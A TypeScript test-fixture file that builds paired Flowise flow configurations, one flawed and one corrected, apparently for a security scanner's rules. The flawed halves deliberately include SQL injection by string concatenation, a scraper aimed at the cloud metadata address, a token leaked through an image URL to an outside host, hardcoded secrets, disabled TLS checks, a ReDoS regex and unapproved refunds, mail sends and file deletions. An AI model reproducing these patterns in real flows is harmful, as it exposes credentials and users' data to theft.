/** Flowise an eighth time: flows of agents with people, rounds and papers, and the older canvas with its loaders, stores and crews. */
import type { Json, JsonObject } from '../../../../app/kernel/json.ts';
import { fakeToken } from '../../kit/steps.ts';
import { e, n, ollama, st, type Piece } from './flowise.ts';
import type { Pair } from './kit.ts';

export const flowiseEighth: Pair[] = [];
/** An attack and its twin, which differ by one thing. */
const pair = <T>(name: string, rule: string, file: (one: T) => unknown, bad: T, good: T): void => {
  flowiseEighth.push([name, rule, file(bad) as Json, file(good) as Json]);
};
const flow = (nodes: readonly Piece[], edges: readonly unknown[]) => ({ nodes: [...nodes], edges: [...edges] });
const chain = (...nodes: readonly Piece[]) =>
  flow(
    nodes,
    nodes.slice(1).map((one, index) => e(nodes[index] as Piece, one)),
  );
/** Ways out, as the canvas draws them. */
const ways: Readonly<Record<string, number>> = { conditionAgentAgentflow: 2, conditionAgentflow: 2, humanInputAgentflow: 2 };
const step = (name: string, base: string, inputs: JsonObject) => {
  const one = n(name, 'Agent Flows', [base], inputs, 'agentFlow');
  return {
    ...one,
    data: {
      ...one.data,
      outputAnchors: Array.from({ length: ways[name] ?? 1 }, (_, index) => ({
        id: `${one.id}-output-${index}`,
        label: String(index),
        name: String(index),
      })),
    },
  };
};
const again = <T extends Piece>(one: T, id: string, parentNode?: string): T => ({
  ...one,
  id,
  ...(parentNode === undefined ? {} : { parentNode, extent: 'parent' }),
  data: { ...one.data, id },
});
/** Out of the second way of a step. */
const second = (a: Piece, b: Piece, way = 1) => ({
  source: a.id,
  sourceHandle: `${a.id}-output-${way}`,
  target: b.id,
  targetHandle: b.id,
  type: 'agentFlow',
  id: `${a.id}-${way}-${b.id}`,
});
const mention = (id: string): string =>
  `<p><span class="variable" data-type="mention" data-id="${id}" data-label="${id}">{{ ${id} }}</span> </p>`;
const LOCAL = { modelName: 'llama3', baseUrl: 'http://localhost:11434' };
const OPENAI = { cache: '', modelName: 'gpt-4o-mini', temperature: 0.2, streaming: true, credential: 'c1' };
const llm = (user: string, cloud = false, more: JsonObject = {}) =>
  step('llmAgentflow', 'LLM', {
    llmModel: cloud ? 'chatOpenAI' : 'chatOllama',
    llmModelConfig: cloud ? OPENAI : LOCAL,
    llmMessages: [],
    llmEnableMemory: false,
    llmUserMessage: user,
    llmReturnResponseAs: 'userMessage',
    ...more,
  });
const agent = (tools: readonly JsonObject[], more: JsonObject = {}) =>
  step('agentAgentflow', 'Agent', {
    agentModel: 'chatOllama',
    agentModelConfig: LOCAL,
    agentMessages: [],
    agentUserMessage: mention('question'),
    agentTools: [...tools],
    agentKnowledgeDocumentStores: '',
    agentReturnResponseAs: 'userMessage',
    ...more,
  });
const tool = (agentSelectedTool: string, config: JsonObject = {}): JsonObject => ({
  agentSelectedTool,
  agentSelectedToolConfig: { ...config, agentSelectedTool },
  agentSelectedToolRequiresHumanInput: false,
});
const fn = (code: string, ...vars: readonly (readonly [string, string])[]) =>
  step('customFunctionAgentflow', 'CustomFunction', {
    customFunctionInputVariables: vars.map(([variableName, variableValue]) => ({ variableName, variableValue })),
    customFunctionJavascriptFunction: code,
    customFunctionUpdateState: '',
  });
const http = (more: JsonObject) =>
  step('httpAgentflow', 'HTTP', {
    method: 'GET',
    url: 'https://api.example.com/x',
    headers: '',
    queryParams: '',
    bodyType: 'json',
    body: '',
    responseType: 'json',
    ...more,
  });
const reply = (text: string) => step('directReplyAgentflow', 'DirectReply', { directReplyMessage: text });
const human = step('humanInputAgentflow', 'HumanInput', {
  humanInputDescriptionType: 'fixed',
  humanInputDescription: '<p>Go on?</p>',
  humanInputEnableFeedback: true,
});
const form = (...fields: readonly (readonly [string, string])[]) =>
  step('startAgentflow', 'Start', {
    startInputType: 'formInput',
    formTitle: 'Ask us',
    formDescription: '',
    formInputTypes: fields.map(([name, label]) => ({ type: 'string', label, name, addOptions: '' })),
    startState: '',
    startPersistState: '',
  });
const toolStep = (name: string, config: JsonObject, args: readonly (readonly [string, string])[]) =>
  step('toolAgentflow', 'Tool', {
    toolAgentflowSelectedTool: name,
    toolInputArgs: args.map(([inputArgName, inputArgValue]) => ({ inputArgName, inputArgValue })),
    toolUpdateState: '',
    toolAgentflowSelectedToolConfig: { ...config, toolAgentflowSelectedTool: name },
  });
const pay = toolStep('stripeAgentTool', { refunds: '["create"]' }, [['amount', '<p>{{ llmAgentflow_0 }}</p>']]);
const part = (name: string, category: string, base: string, inputs: JsonObject) => n(name, category, [base], inputs);
const root = (inputs: JsonObject = {}) =>
  n('toolAgent', 'Agents', ['AgentExecutor'], { systemMessage: 'You are helpful', maxIterations: 5, ...inputs });
const withTool = (...tools: readonly Piece[]) => {
  const r = root();
  return flow([ollama, r, ...tools], [e(ollama, r, 'model'), ...tools.map((one) => e(one, r, 'tools'))]);
};
const calc = n('calculator', 'Tools', ['Calculator', 'Tool'], {});
const embed = n('openAIEmbeddings', 'Embeddings', ['OpenAIEmbeddings', 'Embeddings'], {
  modelName: 'text-embedding-3-small',
  credential: 'c2',
});
const key = fakeToken('', 32);

// People, rounds and ways.
pair<boolean>(
  'money back with no person',
  'AI005',
  (asked) => (asked ? chain(st, llm(mention('question')), human, pay) : chain(st, llm(mention('question')), pay)),
  false,
  true,
);
pair<boolean>(
  'a no that goes on all the same',
  'AI005',
  (both) => {
    const l = llm(mention('question'));
    const no = reply('<p>Not done</p>');
    return flow([st, l, human, pay, no], [e(st, l), e(l, human), second(human, pay, 0), second(human, both ? pay : no)]);
  },
  true,
  false,
);
pair<string>(
  'each of the people of a list',
  'DF001',
  (list) => {
    const it = step('iterationAgentflow', 'Iteration', { iterationInput: mention(`$form.${list}`) });
    const l = again(llm(`<p>Greet {{ $iteration }}</p>`, true), 'llmAgentflow_0', it.id);
    const s = form(['emails', 'E-mails of the guests'], ['colours', 'Colours']);
    return flow([s, it, l], [e(s, it)]);
  },
  'emails',
  'colours',
);
pair<boolean>(
  'a refund that a condition of a model picks',
  'AI005',
  (none) => {
    const c = step('conditionAgentAgentflow', 'ConditionAgent', {
      conditionAgentModel: 'chatOllama',
      conditionAgentModelConfig: LOCAL,
      conditionAgentInstructions: '<p>Is a refund due?</p>',
      conditionAgentInput: mention('question'),
      conditionAgentScenarios: [{ scenario: 'Refund' }, { scenario: 'No refund' }],
    });
    const p = toolStep('stripeAgentTool', { refunds: '["create"]' }, [['charge', mention('question')]]);
    const no = reply('<p>We will look into it</p>');
    return none ? flow([st, c, no], [e(st, c), second(c, no, 0)]) : flow([st, c, p], [e(st, c), second(c, p, 0)]);
  },
  false,
  true,
);
pair<boolean>(
  'an agent that must ask before it sends',
  'AI005',
  (agentSelectedToolRequiresHumanInput) =>
    chain(
      st,
      agent([{ ...tool('gmail', { gmailType: 'messages', messageActions: '["sendMessage"]' }), agentSelectedToolRequiresHumanInput }]),
    ),
  false,
  true,
);
pair<string>(
  'a loan refused by a model',
  'AI018',
  (purpose) => {
    const s = form(['income', 'Income'], ['email', 'E-mail']);
    const l = llm(`<p>${purpose} {{ $form.income }}</p>`, false, {
      llmStructuredOutput: [
        { key: 'decision', type: 'enum', enumValues: purpose.startsWith('Decide') ? 'approve, reject' : 'short, long', description: 'x' },
      ],
    });
    const c = step('conditionAgentflow', 'Condition', {
      conditions: [
        {
          type: 'string',
          value1: '<p>{{ llmAgentflow_0.output.decision }}</p>',
          operation: 'equal',
          value2: purpose.startsWith('Decide') ? '<p>reject</p>' : '<p>long</p>',
        },
      ],
    });
    const m = toolStep('gmail', { gmailType: 'messages', messageActions: '["sendMessage"]' }, [
      ['to', mention('$form.email')],
      ['subject', purpose.startsWith('Decide') ? 'Your loan application was rejected' : 'Your question'],
      ['body', 'Dear customer'],
    ]);
    return flow([s, l, c, m], [e(s, l), e(l, c), second(c, m, 0)]);
  },
  'Decide on the loan of an applicant who earns',
  'How long is the text',
);

// Forms and data.
pair<string>(
  'a field told by its label alone',
  'DF001',
  (f) => {
    const s = form(['f1', 'Date of birth'], ['f2', 'Topic']);
    return chain(s, llm(mention(`$form.${f}`), true));
  },
  'f1',
  'f2',
);
pair<string>(
  'what the doctor found',
  'DF001',
  (f) =>
    chain(
      form(['diagnosis', 'Diagnosis'], ['topic', 'Topic']),
      agent([], {
        agentModel: 'chatAnthropic',
        agentModelConfig: { modelName: 'claude-sonnet-4-20250514', credential: 'c1' },
        agentUserMessage: mention(`$form.${f}`),
      }),
    ),
  'diagnosis',
  'topic',
);
pair<string>(
  'a person in an address',
  'DF018',
  (value) => chain(form(['email', 'E-mail'], ['product', 'Product']), http({ queryParams: [{ key: 'q', value }] })),
  mention('$form.email'),
  mention('$form.product'),
);
pair<string>(
  'a person in the path',
  'DF018',
  (f) => chain(form(['phone', 'Phone'], ['product', 'Product']), http({ url: `<p>https://api.example.com/who/{{ $form.${f} }}</p>` })),
  'phone',
  'product',
);
pair<string>(
  'an illness told to another firm',
  'DF002',
  (f) =>
    chain(
      form(['diagnosis', 'Diagnosis'], ['qty', 'Quantity']),
      http({ method: 'POST', url: 'https://hooks.zapier.com/hooks/catch/1/a', body: `{"v":"{{ $form.${f} }}"}` }),
    ),
  'diagnosis',
  'qty',
);
pair<string>(
  'staff papers, a stranger and a way out',
  'DF004',
  (store) =>
    chain(
      st,
      agent(
        store === 'Product manual'
          ? [tool('calculator')]
          : [
              tool('requestsPost', { requestsPostUrl: '', requestsPostName: 'post', requestsPostDescription: 'posts' }),
              tool('webScraperTool', {}),
            ],
        {
          agentKnowledgeDocumentStores: [
            { documentStore: `25429b8f-0377-4762-9cda-0d5366cf022c:${store}`, docStoreDescription: store, returnSourceDocuments: false },
          ],
        },
      ),
    ),
  'Personnel files with salaries and health of the employees',
  'Product manual',
);
pair<string>(
  'mails read and mails sent',
  'AI005',
  (messageActions) => chain(st, agent([tool('gmail', { gmailType: 'messages', messageActions })])),
  '["listMessages","getMessage","sendMessage"]',
  '["listMessages","getMessage"]',
);

// Where it goes.
pair<string>(
  'the chat gives the host by way of the state',
  'CN005',
  (value) => {
    const l = step('customFunctionAgentflow', 'CustomFunction', {
      customFunctionInputVariables: [],
      customFunctionJavascriptFunction: 'return 1;',
      customFunctionUpdateState: [{ key: 'host', value }],
    });
    const s = step('startAgentflow', 'Start', { startInputType: 'chatInput', startState: [{ key: 'host', value: '' }] });
    return chain(s, l, http({ url: '<p>https://{{ $flow.state.host }}/status</p>' }));
  },
  mention('question'),
  '<p>api.example.com</p>',
);
pair<string>(
  'a script asks the host that the chat gives',
  'CN005',
  (host) =>
    chain(
      st,
      fn(`const axios = require('axios');\nconst r = await axios.get('https://' + ${host} + '/v1/price');\nreturn r.data;`, [
        'h',
        mention('question'),
      ]),
    ),
  '$h',
  "'api.example.com'",
);
pair<string>(
  'a script puts a statement together',
  'CN014',
  (q) =>
    chain(
      st,
      fn(
        `const { Client } = require('pg');\nconst c = new Client({ host: 'db.example.com' });\nawait c.connect();\nconst r = await ${q};\nreturn r.rows;`,
        ['name', mention('question')],
      ),
    ),
  'c.query("SELECT * FROM people WHERE name = \'" + $name + "\'")',
  "c.query('SELECT * FROM people WHERE name = $1', [$name])",
);
pair<string>(
  'a step calls what a model says',
  'AI003',
  (url) =>
    chain(
      st,
      llm(mention('question')),
      toolStep('requestsGet', { requestsGetName: 'get', requestsGetDescription: 'gets' }, [['url', url]]),
    ),
  '<p>{{ llmAgentflow_0 }}</p>',
  'https://api.example.com/prices',
);
pair<string>(
  'a flow called over a plain line',
  'CN001',
  (executeFlowBaseURL) =>
    chain(
      st,
      step('executeFlowAgentflow', 'ExecuteFlow', {
        executeFlowSelectedFlow: 'f1',
        executeFlowInput: mention('question'),
        executeFlowOverrideConfig: '',
        executeFlowBaseURL,
        executeFlowReturnResponseAs: 'userMessage',
      }),
    ),
  'http://flows.example.net:3000',
  'https://flows.example.net',
);
pair<string>(
  'pages over a plain line',
  'CN001',
  (url) => {
    const l = part('cheerioWebScraper', 'Document Loaders', 'Document', { url, limit: 10 });
    const v = n('memoryVectorStore', 'Vector Stores', ['Memory', 'VectorStoreRetriever'], { topK: 4 });
    return flow([l, embed, v], [e(l, v, 'document'), e(embed, v, 'embeddings')]);
  },
  'http://docs.example.org/guide',
  'https://docs.example.org/guide',
);
pair<string>(
  'a browser on the keys of the cloud',
  'CN004',
  (url) => {
    const l = part('puppeteerWebScraper', 'Document Loaders', 'Document', { url });
    const v = n('memoryVectorStore', 'Vector Stores', ['Memory', 'VectorStoreRetriever'], { topK: 4 });
    return flow([l, embed, v], [e(l, v, 'document'), e(embed, v, 'embeddings')]);
  },
  'http://169.254.169.254/latest/user-data',
  'https://docs.example.org/guide',
);
pair<string>(
  'a model over a plain line',
  'CN001',
  (basepath) => {
    const m = n('chatOpenAI', 'Chat Models', ['ChatOpenAI', 'BaseChatModel'], {
      modelName: 'gpt-4o-2024-08-06',
      basepath,
      credential: 'c1',
    });
    const c = n('conversationChain', 'Chains', ['ConversationChain'], {});
    return flow([m, c], [e(m, c, 'model')]);
  },
  'http://llm.example.net/v1',
  'https://llm.example.net/v1',
);
pair<string>(
  'a tool server over a plain line',
  'CN001',
  (url) => chain(st, agent([tool('customMCP', { mcpServerConfig: JSON.stringify({ url, headers: {} }) })])),
  'http://tools.example.net/sse',
  'https://tools.example.net/sse',
);
pair<string>(
  'a tool server of any version',
  'CN018',
  (pkg) =>
    withTool(
      n('customMCP', 'Tools (MCP)', ['Custom MCP Tool', 'Tool'], {
        mcpServerConfig: JSON.stringify({ command: 'npx', args: ['-y', pkg] }),
        mcpActions: '["search"]',
      }),
    ),
  '@acme/desk-mcp',
  '@acme/desk-mcp@1.4.2',
);
pair<string>(
  'a tool server out of an image of any version',
  'CN018',
  (image) =>
    withTool(
      n('customMCP', 'Tools (MCP)', ['Custom MCP Tool', 'Tool'], {
        mcpServerConfig: JSON.stringify({ command: 'docker', args: ['run', '-i', '--rm', image] }),
        mcpActions: '["search"]',
      }),
    ),
  'mcp/postgres:latest',
  `mcp/postgres@sha256:${'ab12'.repeat(16)}`,
);
pair<string>(
  'any certificate of a database',
  'CN003',
  (ssl) =>
    flow(
      [
        n('postgres', 'Vector Stores', ['Postgres', 'VectorStoreRetriever'], {
          host: 'db.example.com',
          database: 'shop',
          additionalConfig: `{"ssl":{"rejectUnauthorized":${ssl}}}`,
        }),
        embed,
      ],
      [e(embed, n('postgres', 'Vector Stores', ['Postgres'], {}), 'embeddings')],
    ),
  'false',
  'true',
);
pair<string>(
  'a kit of addresses over a plain line',
  'CN001',
  (server) =>
    withTool(
      n('openAPIToolkit', 'Tools', ['OpenAPI', 'Tool'], {
        yamlFile: `data:application/x-yaml;base64,${btoa(`openapi: 3.0.0\nservers:\n  - url: ${server}\npaths:\n  /orders:\n    get:\n      operationId: orders\n`)},filename:x.yaml`,
        returnDirect: false,
      }),
    ),
  'http://erp.example.net/v1',
  'https://erp.example.net/v1',
);

// Memory, crews and models.
pair<string>(
  'one memory for all who chat',
  'AI015',
  (sessionId) => {
    const m = n('RedisBackedChatMemory', 'Memory', ['RedisBackedChatMemory', 'BaseMemory'], {
      sessionId,
      memoryKey: 'chat_history',
      credential: 'c4',
    });
    const r = root();
    const t = n('gmail', 'Tools', ['Gmail', 'Tool'], { gmailType: 'messages', messageActions: '["listMessages"]' });
    return flow([ollama, m, r, t], [e(ollama, r, 'model'), e(m, r, 'memory'), e(t, r, 'tools')]);
  },
  'everyone',
  '',
);
pair<Piece>(
  "a forum's words and an agent that mails",
  'AI001',
  (t) => {
    const l = part('cheerioWebScraper', 'Document Loaders', 'Document', { url: 'https://forum.example.org' });
    const v = n('pinecone', 'Vector Stores', ['Pinecone', 'VectorStoreRetriever', 'BaseRetriever'], { pineconeIndex: 'forum' });
    const rt = n('retrieverTool', 'Tools', ['RetrieverTool', 'Tool'], {
      name: 'forum',
      description: 'Searches the forum',
      returnSourceDocuments: true,
    });
    const r = root();
    return flow(
      [ollama, l, embed, v, rt, r, t],
      [e(l, v, 'document'), e(embed, v, 'embeddings'), e(v, rt, 'retriever'), e(rt, r, 'tools'), e(ollama, r, 'model'), e(t, r, 'tools')],
    );
  },
  n('gmail', 'Tools', ['Gmail', 'Tool'], { gmailType: 'messages', messageActions: '["sendMessage"]' }),
  calc,
);
pair<string>(
  'a worker of a crew runs code',
  'AI001',
  (name) => {
    const s = n('supervisor', 'Multi Agents', ['Supervisor'], {
      supervisorName: 'Boss',
      supervisorPrompt: 'You lead {team_members}',
      recursionLimit: 20,
    });
    const w = n('worker', 'Multi Agents', ['Worker'], {
      workerName: 'Coder',
      workerPrompt: 'You do the work',
      promptValues: '',
      maxIterations: 4,
    });
    const t = n(name, 'Tools', [name, 'Tool'], {});
    return flow([ollama, s, w, t], [e(ollama, s, 'model'), e(s, w, 'supervisor'), e(t, w, 'tools')]);
  },
  'codeInterpreterE2B',
  'calculator',
);
pair<boolean>(
  'a step of a row that sends with no person',
  'AI005',
  (interrupt) => {
    const s = n('seqStart', 'Sequential Agents', ['Start'], {});
    const a = n('seqAgent', 'Sequential Agents', ['Agent'], {
      agentName: 'Desk',
      systemMessagePrompt: 'You answer mail',
      interrupt,
      approvalPrompt: 'Run {tools}?',
      maxIterations: 4,
    });
    const end = n('seqEnd', 'Sequential Agents', ['End'], {});
    const t = n('gmail', 'Tools', ['Gmail', 'Tool'], { gmailType: 'messages', messageActions: '["sendMessage"]' });
    return flow([ollama, s, a, end, t], [e(ollama, s, 'model'), e(s, a, 'sequentialNode'), e(t, a, 'tools'), e(a, end, 'sequentialNode')]);
  },
  false,
  true,
);
pair<string>(
  'a row whose state holds a key',
  'CN007',
  (defaultValue) => {
    const s = n('seqStart', 'Sequential Agents', ['Start'], {});
    const state = n('seqState', 'Sequential Agents', ['State'], {
      stateMemory: 'stateMemoryUI',
      stateMemoryUI: JSON.stringify([{ key: 'apiKey', type: 'Replace', defaultValue, actions: '', id: 1 }]),
    });
    return flow([ollama, s, state], [e(ollama, s, 'model'), e(state, s, 'state')]);
  },
  key,
  '',
);
pair<string>(
  'orders out of the state of a row',
  'AI002',
  (value) => {
    const s = n('seqStart', 'Sequential Agents', ['Start'], {});
    const a = n('seqLLMNode', 'Sequential Agents', ['LLMNode'], {
      llmNodeName: 'Clerk',
      systemMessagePrompt: 'You are {persona}',
      humanMessagePrompt: 'Hi',
      promptValues: JSON.stringify({ persona: value }),
    });
    return flow([ollama, s, a], [e(ollama, s, 'model'), e(s, a, 'sequentialNode')]);
  },
  '{{question}}',
  'kind',
);
pair<string>(
  'a model by a name that moves',
  'AI009',
  (modelName) => chain(st, llm(mention('question'), false, { llmModel: 'chatOpenAI', llmModelConfig: { ...OPENAI, modelName } })),
  'chatgpt-4o-latest',
  'gpt-4o-2024-08-06',
);
pair<string>(
  'a graph that a model asks as it likes',
  'AI003',
  (name) => {
    const c = n(name, 'Chains', [name], {});
    const g = n('neo4j', 'Graph', ['Neo4j'], { credential: 'c5' });
    return flow([ollama, c, g], [e(ollama, c, 'model'), e(g, c, 'graph')]);
  },
  'graphCypherQAChain',
  'conversationChain',
);
pair<string>(
  'a table that a model writes code for',
  'AI003',
  (name) => {
    const c = n(
      name,
      'Agents',
      ['AgentExecutor'],
      name === 'csvAgent' ? { csvFile: 'data:text/csv;base64,YSxiCjEsMgo=,filename:x.csv', systemMessagePrompt: '' } : {},
    );
    return flow([ollama, c], [e(ollama, c, 'model')]);
  },
  'csvAgent',
  'conversationChain',
);
pair<string>(
  'an agent clears files away',
  'AI005',
  (actions) => chain(st, agent([tool('googleDriveTool', { driveType: 'file', fileActions: actions })])),
  '["listFiles","deleteFile"]',
  '["listFiles"]',
);

// Secrets.
pair<string>(
  'a key in the code of a tool',
  'CN007',
  (v) =>
    withTool(
      n('customTool', 'Tools', ['CustomTool', 'Tool'], {
        selectedTool: 'x',
        customToolName: 'rates',
        customToolDesc: 'gives rates',
        customToolSchema: '[]',
        customToolFunc: `const headers = { 'x-api-key': ${v} };\nreturn JSON.stringify(headers).length;`,
      }),
    ),
  `'${key}'`,
  '$vars.ratesKey',
);
pair<string>(
  'a key in a text that is loaded',
  'CN007',
  (line) => {
    const l = part('plainText', 'Document Loaders', 'Document', { text: `Guide for the desk\n${line}` });
    const v = n('memoryVectorStore', 'Vector Stores', ['Memory', 'VectorStoreRetriever'], {});
    return flow([l, embed, v], [e(l, v, 'document'), e(embed, v, 'embeddings')]);
  },
  `Log in with ${fakeToken('ghp_', 36)}`,
  'Log in as usual',
);
pair<string>(
  'a password of the list of records',
  'CN007',
  (password) => {
    const r = n('postgresRecordManager', 'Record Manager', ['Postgres RecordManager'], {
      host: 'db.example.com',
      database: 'shop',
      tableName: 'upsertion_records',
      additionalConfig: JSON.stringify({ user: 'desk', password }),
      cleanup: 'incremental',
    });
    const v = n('pinecone', 'Vector Stores', ['Pinecone', 'VectorStoreRetriever'], { pineconeIndex: 'x' });
    return flow([r, embed, v], [e(embed, v, 'embeddings'), e(r, v, 'recordManager')]);
  },
  'Kq7vR2mX9tLp!',
  '',
);
pair<string>(
  'a setting in an address',
  'DF003',
  (url) => chain(st, http({ url })),
  '<p>https://api.example.com/x?key={{ $vars.API_KEY }}</p>',
  '<p>https://api.example.com/x?lang={{ $vars.LANGUAGE }}</p>',
);
pair<string>(
  'a picture that carries a token',
  'DF003',
  (name) => {
    const s = step('startAgentflow', 'Start', {
      startInputType: 'chatInput',
      startState: [
        { key: 'token', value: '' },
        { key: 'colour', value: '' },
      ],
    });
    const f = step('customFunctionAgentflow', 'CustomFunction', {
      customFunctionInputVariables: [],
      customFunctionJavascriptFunction: 'return { t: $vars.ACCESS_TOKEN, c: 1 };',
      customFunctionUpdateState: [
        { key: 'token', value: '{{ $vars.ACCESS_TOKEN }}' },
        { key: 'colour', value: 'blue' },
      ],
    });
    return chain(s, f, reply(`<p><img src="https://px.example.net/o.png?d={{ $flow.state.${name} }}"></p>`));
  },
  'token',
  'colour',
);
pair<string>(
  'slow on a long text',
  'SC005',
  (test) =>
    flow(
      [
        n('ifElseFunction', 'Utilities', ['IfElseFunction', 'Utilities'], {
          functionInputVariables: '{"t":"{{question}}"}',
          ifElseFunctionName: 'Check',
          ifFunction: `if (${test}.test($t)) { return $t; }`,
          elseFunction: 'return false;',
        }),
      ],
      [],
    ),
  '/^(a+)+$/',
  '/^a+$/',
);
